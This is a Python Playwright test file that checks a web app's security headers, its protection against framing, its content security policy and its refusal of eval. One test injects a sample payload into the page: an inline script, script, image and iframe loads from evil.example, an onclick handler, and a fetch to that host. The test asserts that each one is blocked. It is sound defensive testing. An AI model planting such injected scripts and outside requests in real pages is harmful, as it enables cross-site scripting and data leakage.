"""The served app itself keeps other pages out; that no page of its own goes against the policy, each walk in a browser sees."""

import re
import time
import urllib.error
import urllib.request

import pytest
from playwright.sync_api import Browser, Page, expect

from matchmaking.pages.frame.response_headers import response_headers
from tests.browser.conftest import PATIENCE, OpenApp
from tests.browser.walk import settled

pytestmark = pytest.mark.browser


@pytest.mark.parametrize(
    "path", ["/", "/members", "/_stcore/health", "/static/js/nothing.js", "/media/nothing.xlsx", "/_stcore/%2e"]
)
def test_every_answer_has_the_headers(address: str, path: str) -> None:
    try:
        with urllib.request.urlopen(f"{address}{path}") as answer:  # noqa: S310 - our own address
            headers = answer.headers
    except urllib.error.HTTPError as refused:
        headers = refused.headers
    assert {name: headers.get_all(name) for name in response_headers()} == {
        name: [value] for name, value in response_headers().items()
    }


def test_no_other_page_frames_the_app(browser: Browser, address: str) -> None:
    page = browser.new_context().new_page()
    page.set_default_timeout(PATIENCE)
    # a page of elsewhere: `fulfil` stands for its server
    page.route(
        "http://evil.example/", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{address}/members'>")
    )
    page.goto("http://evil.example/")
    page.wait_for_load_state("load")
    framed = page.frames[-1]
    assert framed is not page.main_frame
    framed.wait_for_load_state("load")
    assert not framed.url.startswith(address)
    expect(framed.locator("[data-testid=stApp]")).to_have_count(0)


def test_a_script_that_somebody_brought_into_a_page_does_not_run_and_sends_nothing_away(browser: Browser, address: str) -> None:
    page = browser.new_context().new_page()
    page.set_default_timeout(PATIENCE)
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    page.on("requestfinished", lambda request: answered.append(request.url))
    page.goto(f"{address}/first_steps")
    settled(page)
    page.evaluate("window.refused = []; addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective))")
    page.evaluate(_BROUGHT_IN)
    until = time.monotonic() + PATIENCE / 1000  # wait_for_function asks again by eval, which the policy refuses
    while page.evaluate("new Set(refused).size") < 5 and time.monotonic() < until:
        page.wait_for_timeout(100)
    assert {"script-src-elem", "script-src-attr", "connect-src", "img-src", "frame-src"} <= set(page.evaluate("refused"))
    assert page.evaluate("window.hostile === undefined")
    assert not [url for url in answered if "evil.example" in url]


_BROUGHT_IN = """() => {
    const put = (tag, about) => document.body.append(Object.assign(document.createElement(tag), about));
    put('script', { textContent: 'window.hostile = 1' });
    put('script', { src: 'https://evil.example/a.js' });
    put('img', { src: 'https://evil.example/a.png' });
    put('iframe', { src: 'https://evil.example/' });
    const held = document.createElement('div');
    held.innerHTML = '<b onclick="window.hostile = 1">x</b>';
    document.body.append(held);
    held.firstChild.click();
    fetch('https://evil.example/').catch(() => 0);
}"""


def test_a_page_with_charts_and_files_keeps_to_the_policy(open_app: OpenApp) -> None:
    page: Page = open_app("en-GB", "weights")
    settled(page)
    expect(page.locator("[data-testid=stVegaLiteChart]").first).to_be_visible()


def test_no_text_is_made_a_script_and_charts_are_drawn_and_answer_without_it(open_app: OpenApp) -> None:
    page = open_app("en-GB", "weights")
    settled(page)
    # later, since what a debugger asks at once is evaluated whatever the policy says
    assert (
        page.evaluate(
            "new Promise(told => setTimeout(() => { try { Function('return 1')(); told('made') } catch (refused)"
            " { told(refused.name) } }))"
        )
        == "EvalError"
    )
    marks = page.locator("[data-testid=stVegaLiteChart] .role-mark path").filter(visible=True)
    marks.first.hover(force=True)
    expect(page.locator("#vg-tooltip-element")).to_have_class(re.compile("visible"))
